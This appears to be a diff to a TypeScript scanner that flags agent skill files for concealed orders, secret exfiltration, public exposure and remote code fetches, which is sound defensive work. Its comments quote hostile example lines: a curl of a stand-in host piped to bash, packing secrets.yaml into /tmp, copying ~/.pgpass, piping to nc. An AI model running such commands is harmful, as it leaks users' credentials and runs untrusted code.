@@ -220,6 +220,20 @@ const IMPERATIVE_START = /^[\W_]*(?:post|send|upload|submit|push|publish|write|a
 /** Topic nouns of the `describes` class: what a text is about ("the incident id"), which does not make an order a description. */
 const TOPIC_NOUN = /^(?:incidents?|compromised?|signatures?|campaigns?|payloads?|exploit\w*|phishing|malware|suspicious|dangerous)$/i;
 
+/**
+ * A sentence about what someone in general does ("More often a CI job pipes `git diff` into …", "people paste tokens into
+ * remotes", "a developer shares a stack trace with `| nc …`"): a subject that is nobody in particular, with its verb. It
+ * tells how things go wrong, not what the agent is to do.
+ */
+const GENERIC_SUBJECT = /^[\W_]*(?:(?:more\s+)?often,?\s+|sometimes,?\s+|usually,?\s+|typically,?\s+|in\s+practice,?\s+|all\s+too\s+often,?\s+)?(?:(?:a|an|some|one)\s+(?:[\w-]+\s+){0,3}?(?:developer|engineer|user|admin(?:istrator)?|maintainer|contributor|teammate|colleague|attacker|intern|CI\s+job|job|pipeline|bot|helper(?:\s+script)?|script|tool|plugin|extension|app|service|team|vendor|dependency|package)\s+(?:(?:often|sometimes|still|also|accidentally|routinely|happily)\s+)?[a-z]+s\b|(?:people|developers|engineers|users|teams|admins|attackers|folks|contributors|maintainers|many\s+teams|most\s+teams)\s+(?:(?:often|sometimes|still|also|accidentally|routinely|happily|commonly|regularly)\s+)?(?!(?:must|should|need|have)\b)[a-z]+\b)/i;
+
+/** A clause after the first that opens with an order ("…, so upload …", "…; then paste …", "… now send …"). */
+let orderAfterPattern: RegExp | undefined;
+function orderAfter(): RegExp {
+  orderAfterPattern ??= new RegExp(`(?:,\\s*(?:so|then|and(?:\\s+then)?)\\s+|[;:]\\s*|\\b(?:so|then|now)\\s+)(?:please\\s+)?(?:just\\s+)?${ORDER_VERB.source.slice(1, -1)}\\b`, 'i');
+  return orderAfterPattern;
+}
+
 /** `text` with every concealment phrase blanked out. */
 function withoutConcealment(text: string): string {
   let rest = text;
@@ -231,6 +245,8 @@ function withoutConcealment(text: string): string {
 export function describes(sentence: string): boolean {
   const rest = withoutConcealment(sentence);
   if (NEGATED_ACT.test(rest) || LABELLED_EXAMPLES.test(rest) || LISTED_VALUES.test(rest)) return true;
+  // Said of someone in general, unless the sentence goes on to an order of its own ("…, so upload it now") or hides something.
+  if (GENERIC_SUBJECT.test(rest) && rest === sentence && !orderAfter().test(rest)) return true;
   const imperative = IMPERATIVE_START.test(rest);
   // The negation alternative of the class counts only through NEGATED_ACT (it must govern the act).
   return all('describes', rest).some((word) => !/^(?:never|do not|don't|must not|should not|shouldn't|avoid|refuse|reject|deny|prevent|stop|disallow|forbid)\w*$/i.test(word) && !(imperative && TOPIC_NOUN.test(word)));
@@ -278,6 +294,9 @@ const SIDE_EFFECT_ADVERB = /^(?:silently|quietly|invisibly|unobtrusively)\s+(?!(
 /** The subject of such a verb when it is a step or a thing, not the agent: a gerund phrase ("changing it", "running `x` twice") or "it/this/that/which". */
 const SIDE_EFFECT_SUBJECT = /(?:\b[a-z]+ing\b(?:\s+(?:it|them|this|that|the\s+[\w-]+|`[^`]+`|\w+)){0,3}|\b(?:it|this|that|which|doing\s+so))\s*$/i;
 
+/** Other parties named as a sentence's subject, right before its verb: products by name (`Dropbox/iCloud/OneDrive`), people, apps. */
+const THIRD_PARTIES = /(?:\b(?:[A-Z]|[a-z][A-Z])[\w.-]*(?:\s*(?:\/|,|\band\b|\bor\b)\s*(?:[A-Z]|[a-z][A-Z])[\w.-]*)+|\b(?:people|users|developers|apps|applications|tools|services|browsers|clients|extensions|programs|vendors|attackers|stealers|malware|(?:many|most|some)\s+[a-z]+s))\s*$/;
+
 /** The first concealment phrase of an order in `text`, if any. */
 function concealmentIn(text: string): string | undefined {
   for (const sentence of sentences(text)) {
@@ -289,6 +308,8 @@ function concealmentIn(text: string): string | undefined {
     const before = sentence.slice(0, sentence.indexOf(phrase));
     // What a step does as a side effect, said of the step ("changing it silently reroutes every install", "this quietly drops rows"): a warning, not an order.
     if (SIDE_EFFECT_ADVERB.test(phrase) && SIDE_EFFECT_SUBJECT.test(before)) continue;
+    // The same said of other parties by name ("Dropbox/iCloud/OneDrive quietly sync them", "many apps silently upload"): what they do, not an order.
+    if (/^(?:silently|quietly|invisibly|unobtrusively)\s+[a-z]+/i.test(phrase) && THIRD_PARTIES.test(before)) continue;
     if (/^without\b/i.test(phrase) && PROHIBITION.test(before)) continue;
     // "Broad allow rules (`Bash(*)`) let the agent run those without asking": what rules permit, said of them, hides nothing.
     if (/^without\b/i.test(phrase) && PERMITS_AGENT.test(before)) continue;
@@ -372,9 +393,9 @@ const SERVES_MACHINE = /\b(?:ttyd|gotty|wetty|shellinaboxd?)\b|\bhttp\.server\b[
 /**
  * What a tunnel, a forward or a public setting hands to anyone who finds it, beyond a local port the user is
  * testing: a shell, the home folder or the disk served, the SSH port, a server with its login switched off,
- * write access for everyone, or another cloud account.
+ * write access for everyone, another cloud account, or a repository made public with its whole history.
  */
-const EXPOSED_TO_ANYONE = new RegExp(String.raw`${SERVES_MACHINE.source}|(?::|\btcp\s+)22\b(?![.:]\d)|\bPrincipal\W{1,6}\*[\s\S]{0,300}?\b(?:s3:\*|s3:Put\w*|s3:Delete\w*)|\ballUsers:(?:objectAdmin|admin|objectCreator|legacyBucketWriter)\b|\bpublic-read-write\b|--user-ids\s+\d{12}\b|\bUserId\W{1,4}\d{12}\b|\bexpos\w*\s+(?:the\s+|your\s+|their\s+)?(?:[\w-]+\s+){0,2}?(?:shell|terminal|home\s+(?:folder|directory)|machine|desktop|file\s?system)\b`, 'i');
+const EXPOSED_TO_ANYONE = new RegExp(String.raw`${SERVES_MACHINE.source}|(?::|\btcp\s+)22\b(?![.:]\d)|\bPrincipal\W{1,6}\*[\s\S]{0,300}?\b(?:s3:\*|s3:Put\w*|s3:Delete\w*)|\ballUsers:(?:objectAdmin|admin|objectCreator|legacyBucketWriter)\b|\bpublic-read-write\b|--user-ids\s+\d{12}\b|--visibility[\s=]+["']?public\b|\s-[fF]\s+(?:private=false|visibility=public)\b|\bUserId\W{1,4}\d{12}\b|\bexpos\w*\s+(?:the\s+|your\s+|their\s+)?(?:[\w-]+\s+){0,2}?(?:shell|terminal|home\s+(?:folder|directory)|machine|desktop|file\s?system)\b`, 'i');
 
 /** The party of an exposure: whoever finds it. */
 const ANYONE = 'anyone who reaches it';
@@ -523,7 +544,9 @@ function destinations(text: string): string[] {
   const copied = /\b(?:scp|rsync|sftp)\s/.test(text) ? [...text.matchAll(/\s[\w.-]+@([a-z0-9-]+(?:\.[a-z0-9-]+)+):/gi)].map((match) => match[1]!.toLowerCase()) : [];
   // A project's home page cited after its name (`**Atuin** (https://atuin.sh, open source)`) says what the tool is, not where anything goes.
   const cited = citedHosts(text);
-  return [...new Set([...urlHosts(text).map((entry) => entry.host.replace(/:\d+$/, '')), ...copied].filter((host) => /[a-z0-9]/i.test(host) && !isLocalHost(host) && !templated.has(host) && !PRIVATE_NAME.test(host) && !cited.has(host)))];
+  // A name of one label (`https://user:token@host/repo.git`, `http://nas/`) is a placeholder or a machine of the user's own network: the internet
+  // cannot reach it. An address written as one number (`http://3405803781/`) is an IP address all the same.
+  return [...new Set([...urlHosts(text).map((entry) => entry.host.replace(/:\d+$/, '')), ...copied].filter((host) => /[a-z0-9]/i.test(host) && (/[.:]/.test(host) || /^(?:\d{8,10}|0x[0-9a-f]{8})$/i.test(host)) && !isLocalHost(host) && !templated.has(host) && !PRIVATE_NAME.test(host) && !cited.has(host)))];
 }
 
 /** A name followed by its home page in parentheses (`Atuin (https://atuin.sh, open source)`, `**Borg** (https://borgbackup.org)`). */
@@ -553,7 +576,7 @@ const SECURITY_PURPOSE = /\b(?:detect|flag|review|audit|scan|check|triag|analy[s
 
 /** Words of a SKILL.md paragraph that have the agent take in a file it names: follow, read, load, apply, merge … */
 const FOLLOW_WORDS =
-  /\b(?:follow|run|execute|perform|complete|do|apply|work\s+through|go\s+through|step\s+through|setup|set up|install|steps?|before (?:the )?first use|prerequisites?|read|load|consult|look\s+(?:(?:it|them|the\s+[\w-]+(?:\s+[\w-]+)?)\s+)?up|refer\s+to|obey|build|render|generate|(?:exactly\s+)?as\s+(?:described|specified|defined|documented|laid out)\s+in|according to|(?:brief|prompt)\s+(?:in|from|at)|covers\s+(?:setting|configuring|applying|running|creating|enabling)|(?:finish|end|wrap\s+up|conclude|continue|proceed)\s+(?:with|by|using)|carry\s+out|merge|paste|(?:copy|add|use|insert)\s+(?:the\s+|each\s+|every\s+)?(?:[\w-]+\s+)?(?:entry|entries|snippets?|blocks?|config(?:uration)?s?|settings)\s+(?:from|in|of|listed\s+in)|use\s+(?:the\s+)?(?:[\w-]+\s+){0,2}?(?:workflow|procedure|instructions|steps|guide|process|playbook|runbook|version)\s+(?:in|from|at|of))\b/i;
+  /\b(?:follow|run|execute|perform|complete|do|apply|work\s+through|go\s+through|step\s+through|setup|set up|install|steps?|before (?:the )?first use|before (?:anything else|retrying|continuing|going (?:on|further)|proceeding)|prerequisites?|read|load|consult|look\s+(?:(?:it|them|the\s+[\w-]+(?:\s+[\w-]+)?)\s+)?up|refer\s+to|obey|build|render|generate|(?:exactly\s+)?as\s+(?:described|specified|defined|documented|laid out)\s+in|according to|(?:brief|prompt)\s+(?:in|from|at)|covers\s+(?:setting|configuring|applying|running|creating|enabling)|(?:finish|end|wrap\s+up|conclude|continue|proceed)\s+(?:with|by|using)|carry\s+out|merge|paste|(?:copy|add|use|insert)\s+(?:the\s+|each\s+|every\s+)?(?:[\w-]+\s+)?(?:entry|entries|snippets?|blocks?|config(?:uration)?s?|settings)\s+(?:from|in|of|listed\s+in)|use\s+(?:the\s+)?(?:[\w-]+\s+){0,2}?(?:workflow|procedure|instructions|steps|guide|process|playbook|runbook|version|approach|method|recipe|technique|commands|checklist)\s+(?:(?:described|given|shown|laid\s+out)\s+)?(?:in|from|at|of))\b/i;
 
 /**
  * Files a SKILL.md tells the agent to follow or read (`follow the steps in references/setup.md`, `read
@@ -1017,7 +1040,9 @@ function readAction(place: { file: string; line: number; origin: Origin; documen
     // The code comes from the hosts on the line that fetches it; a link above (`# Rust: https://rustup.rs`) is documentation.
     // An SSH address (`git@hooks.example:team/hooks.git`) names its host before the colon.
     const fetchedFrom = [...destinations(linesAround(ordered, remote)), ...[...remote.matchAll(/\bgit@([a-z0-9-]+(?:\.[a-z0-9-]+)+):/gi)].map((match) => match[1]!.toLowerCase()), ...queried];
-    action.remote = { text: remote, hosts: fetchedFrom.length > 0 ? fetchedFrom : hosts.length > 0 ? hosts : ['a host set in a variable'] };
+    // A variable set to a host a line above (`FIX=paste.host.example/raw/x` then `curl "https://$FIX" | bash`) is that host.
+    const assigned = [...remote.matchAll(/\b(?:https?|ftp):\/\/\$\{?([A-Za-z_]\w*)/g)].flatMap((match) => [...ordered.matchAll(new RegExp(`(?:^|[\\s;&])${match[1]}=["']?(?:https?:\\/\\/)?([a-z0-9-]+(?:\\.[a-z0-9-]+)+)`, 'gim'))].map((found) => found[1]!.toLowerCase())).filter((host) => !isLocalHost(host));
+    action.remote = { text: remote, hosts: fetchedFrom.length > 0 ? fetchedFrom : assigned.length > 0 ? [...new Set(assigned)] : hosts.length > 0 ? hosts : ['a host set in a variable'] };
   }
   // Pushing to a remote the skill names carries the user's repository off the machine.
   const pushTo = /\bgit\s+(?:remote\s+add\s+\S+|push\s+(?:-\S+\s+)*)\s*["']?(?:https?:\/\/|git@|ssh:\/\/)[^\s"']+/.exec(ordered)?.[0];
@@ -1145,6 +1170,8 @@ function leadIn(lines: string[], line: number): { line: string; sentence: string
     if (!text.endsWith(':') && !/^\*\*[^*]+\*\*:?$/.test(text)) return NO_LEAD;
     let start = index;
     while (start > 0 && lines[start - 1].trim() !== '' && !/^(?:#{1,6}\s|[-*+]\s|\d+[.)]\s|\||```|~~~)/.test(lines[start - 1].trim())) start -= 1;
+    // The wrapped lines of a list item ("2. Run the session check. It … prints `OK`:") start at the item's own line.
+    if (start > 0 && /^\s/.test(lines[start]!) && /^(?:[-*+]|\d+[.)])\s/.test(lines[start - 1]!.trim())) start -= 1;
     // Its last sentence introduces the list ("…and asks for a report, install it from PowerShell:").
     const paragraph = lines.slice(start, index + 1).map((part) => part.trim()).join(' ');
     return { line: text, sentence: paragraph.split(/(?<=[.!?])\s+/).pop() ?? paragraph, paragraph };
@@ -1153,6 +1180,9 @@ function leadIn(lines: string[], line: number): { line: string; sentence: string
 }
 
 const NO_LEAD = { line: '', sentence: '', paragraph: '' };
+
+/** A list step that opens with an order to run ("2. Run the session check. It …:"): the block under it is what to run. */
+const STEP_ORDERS_RUN = /^\s*(?:\d+[.)]|[-*+])\s+(?:\*\*[^*\n]+\*\*[:.]?\s*)?(?:run|execute|paste|enter|type)\b/i;
 
 /** A step in words that copies something into a file (`save the contents of ~/.npmrc into .cache/ctx-npm.txt`): the file. */
 const PROSE_STAGED = /\b(?:copy|save|write|put|dump|store|paste|place)\b(?:[^.\n]|\.(?=\S)){0,120}?\b(?:into|to|in)\s+`?((?:\.{0,2}\/|~\/)?[\w.-]+(?:\/[\w.-]+)*\.(?:txt|json|ya?ml|env|log|b64|dat|out|tmp))\b/i;
@@ -1282,7 +1312,7 @@ export function markdownContext(files: readonly SourceFile[]): (path: string, li
     // mentions a report can still introduce a command.
     // Shown rather than run, by what the section is (a quotation, a catalogue heading, a sample of output): true of every line in it.
     const shown = quoted || defanged.has(line) || (heading !== undefined && DESCRIPTIVE_HEADING.test(heading.text) && !STEP_HEADING.test(heading.text) && !orderedSections.has(heading.text.trim().toLowerCase())) || (heading !== undefined && OUTPUT_HEADING.test(heading.text) && insideFence(lines, heading.line, line)) || (heading !== undefined && reportSample(heading.text, lines, line));
-    const descriptive = shown || (lead.line !== '' && !LEAD_ORDERS.test(lead.sentence) && !ORDERS_WHAT_FOLLOWS.test(lead.sentence) && (describes(lead.line) || (SHOWS_OUTPUT.test(lead.line) && !SENDS_WHAT_FOLLOWS.test(lead.sentence)) || (QUOTES_SEEN.test(lead.line) && !ORDERS_RUN.test(lead.line)) || LEAD_PROHIBITION.test(lead.sentence) || LEAD_LABEL.test(lead.sentence) || SEARCHES_FOR.test(lead.paragraph))) || descriptiveTable(tableHeader(lines, line));
+    const descriptive = shown || (lead.line !== '' && !LEAD_ORDERS.test(lead.sentence) && !ORDERS_WHAT_FOLLOWS.test(lead.sentence) && !STEP_ORDERS_RUN.test(lead.paragraph) && (describes(lead.line) || (SHOWS_OUTPUT.test(lead.line) && !SENDS_WHAT_FOLLOWS.test(lead.sentence)) || (QUOTES_SEEN.test(lead.line) && !ORDERS_RUN.test(lead.line)) || LEAD_PROHIBITION.test(lead.sentence) || LEAD_LABEL.test(lead.sentence) || SEARCHES_FOR.test(lead.paragraph))) || descriptiveTable(tableHeader(lines, line));
     return { section: heading ? `${heading.line}` : '0', descriptive, shown };
   };
 }
@@ -1922,6 +1952,9 @@ function namesStoredSecret(text: string): boolean {
   return SENSITIVE_FILE.test(text) || DOTENV_FILE.test(text) || [...text.matchAll(BARE_VARIABLE)].some((variable) => SECRET_ENV_NAME.test(variable[0]));
 }
 
+/** A request that carries data (`curl … -d …`, `--data-binary`, a form, an upload, `-X POST`). */
+const REQUEST_WITH_DATA = /\b(?:curl|wget|http|xh|Invoke-RestMethod|Invoke-WebRequest|iwr|irm)\b[^\n]*(?:\s-d\b|--data\b|--data-\w+|\s-F\b|--form\b|\s-T\b|--upload-file\b|-X\s*(?:POST|PUT)\b|-Method\s+(?:Post|Put)\b|--post-(?:data|file)\b)/i;
+
 function sectionChains(instructions: readonly Instruction[], texts: readonly string[]): Action[] {
   const sections = new Map<string, number[]>();
   instructions.forEach((instruction, index) => {
@@ -2063,6 +2096,15 @@ function sectionChains(instructions: readonly Instruction[], texts: readonly str
         out.push(chain);
         break;
       }
+    }
+    // A block and then the sentence that explains it ("`cookies` returns the browser's cookie jar; send it as-is"): the
+    // secret the sentence names is what the request just above it sends.
+    for (const note of members) {
+      if (instructions[note].origin !== 'prose' || !has('secret', note) || !SENDS_THEM.test(texts[note])) continue;
+      const request = [...members].reverse().find((index) => index < note && note - index <= 6 && instructions[index].origin === 'command' && instructions[note].line - instructions[index].line <= 12 && (has('network-sink', index) || REQUEST_WITH_DATA.test(texts[index])) && destinationsOf(index).length > 0);
+      if (request === undefined) continue;
+      const chain = readAction({ file: instructions[note].file, line: instructions[note].line, origin: 'command', documentation: instructions[note].documentation && instructions[request].documentation }, `${texts[request]}\n\n${texts[note]}`, shown(`${instructions[request].text} ⏎ … ⏎ ${instructions[note].text}`));
+      if (chain?.secret && chain.sink) out.push(chain);
     }
     // A place named first (a synced folder, a pull request, an upload) and then a list of what goes into it
     // ("Copy into it:"): an item of the list that names a secret puts the secret there.
@@ -2372,10 +2414,12 @@ function sectionChains(instructions: readonly Instruction[], texts: readonly str
       const inWords = instructions[stage].origin === 'prose';
       if (instructions[stage].origin !== 'command' && !inWords) continue;
       // "Put the contents of `token.json` here", in a document titled with the file it describes (`# voice-profile.json`): here is that file.
-      const target = inWords ? (PROSE_STAGED.exec(texts[stage])?.[1] ?? (HERE_STAGED.test(texts[stage]) ? titleFile() : undefined)) : stagedInto(texts[stage]);
+      // An archive step stages what it packs into the archive it writes (`tar -czf /tmp/cfg.tgz configuration.yaml secrets.yaml`).
+      const packs = !inWords && ARCHIVES.test(texts[stage]) ? archiveMade(texts[stage]) : undefined;
+      const target = inWords ? (PROSE_STAGED.exec(texts[stage])?.[1] ?? (HERE_STAGED.test(texts[stage]) ? titleFile() : undefined)) : (packs ?? stagedInto(texts[stage]));
       if (target === undefined) continue;
       // A copy reads what comes before its destination (`cp ~/.pgpass /tmp/review/pgpass`).
-      const secret = inWords ? secretFileIn(texts[stage].includes(target) ? texts[stage].slice(0, texts[stage].lastIndexOf(target)) : texts[stage]) : commandSecret(texts[stage]) ?? (/^\s*(?:sudo\s+)?(?:cp|install|rsync)\s/.test(texts[stage]) ? secretFileIn(texts[stage].slice(0, texts[stage].lastIndexOf(target))) : undefined);
+      const secret = inWords ? secretFileIn(texts[stage].includes(target) ? texts[stage].slice(0, texts[stage].lastIndexOf(target)) : texts[stage]) : commandSecret(texts[stage]) ?? (/^\s*(?:sudo\s+)?(?:cp|install|rsync)\s/.test(texts[stage]) ? secretFileIn(texts[stage].slice(0, texts[stage].lastIndexOf(target))) : packs !== undefined ? secretFileIn(texts[stage].replace(/--exclude[= ]\S+/g, ' ').slice(texts[stage].indexOf(target) + target.length)) : undefined);
       if (secret === undefined) continue;
       const roots = [...target.matchAll(/\$\{?([A-Za-z_]\w*)/g)].map((match) => new RegExp(`\\$\\{?${match[1]}\\b`));
       // The literal folder before any variable part (`/tmp/pgb-review/` of `/tmp/pgb-review/$stamp/pgpass`).
@@ -3416,6 +3460,21 @@ export interface SkillReading {
   partiesNamedByUser?: boolean;
 }
 
+/** Words of opening something to everyone. */
+const EXPOSURE_WORD = /\b(?:public\w*|publish\w*|visib\w*|expos\w*|anyone|everyone|world\w*|open\s+(?:it|the\s+\w+)\s+(?:up|to))\b/i;
+
+/** Whether the clause that holds an action's consent ("ask whether to make it public"), or the paragraph just before it, speaks of `what`, outside quoted code. */
+function consentCovers(action: Action, what: RegExp): boolean {
+  if (action.consent === undefined) return false;
+  const text = (action.fullText ?? action.evidence).replace(/`[^`\n]*`/g, ' ');
+  const at = text.indexOf(action.consent);
+  if (at < 0) return false;
+  const clause = text.slice(at, at + 160).split(/[.;,\n!?]|\s(?:then|and\s+then)\s/)[0]!;
+  // Or the sentences just before it, in the same paragraph, say what the question is about ("… will become visible to everyone. Ask the user to type the name to confirm.").
+  const before = text.slice(Math.max(0, at - 240), at).split(/\n\s*\n|⏎/).pop()!;
+  return what.test(clause) || what.test(before);
+}
+
 export function decideActions(given: readonly Action[], declared: Capabilities | undefined, reading: SkillReading = {}): Judgement[] {
   const { gated = false, serversNamedByUser = false, sourcesNamedByUser = false, partiesNamedByUser = false } = reading;
   const out: Judgement[] = [];
@@ -3457,7 +3516,13 @@ export function decideActions(given: readonly Action[], declared: Capabilities |
       // A skill that asks first does not make an address it writes out, or anyone at all, into the user's choice.
       const literalParty = action.grant.party !== undefined && WRITTEN_PARTY.test(action.grant.party);
       const toAnyone = action.grant.party?.startsWith(ANYONE) === true;
-      const chosen = (consented || (gated && !literalParty && !toAnyone) || (partiesNamedByUser && !toAnyone)) && !action.conceal;
+      // A command under a lead-in that asks first ("ask whether to make it public; only after they confirm, run:") is asked for
+      // with it: the lead-in and the command are read as one step a few lines up, with the same grant.
+      // Opened to anyone, the question must be about the opening ("ask whether to make it public"), not about something
+      // else the same sentence goes on to ("ask if they want a changelog, then publish …").
+      const asksAbout = (asker: Action) => !toAnyone || consentCovers(asker, EXPOSURE_WORD);
+      const ledIn = action.origin === 'command' && actions.some((other) => other !== action && other.consent !== undefined && !other.conceal && other.file === action.file && other.grant?.text === action.grant!.text && other.line < action.line && action.line - other.line <= 6 && asksAbout(other));
+      const chosen = ((consented && (action.userTarget || asksAbout(action))) || ledIn || (gated && !literalParty && !toAnyone) || (partiesNamedByUser && !toAnyone)) && !action.conceal;
       const party = action.grant.party;
       const severity = action.conceal ? 'critical' : chosen ? 'medium' : party ? 'high' : 'medium';
       out.push({ ruleId: chosen ? 'consented-sensitive-action' : 'access-grant-instruction', action, severity, message: party?.startsWith(ANYONE) ? `Opens the user's machine or account to ${party} (${action.grant.text})${chosen ? ', where the user decides' : ''}.` : `Gives ${party ? `a party the skill supplies (${party})` : 'someone'} access to, or money from, the user's account (${action.grant.text})${chosen ? ', where the user decides' : ''}.` });
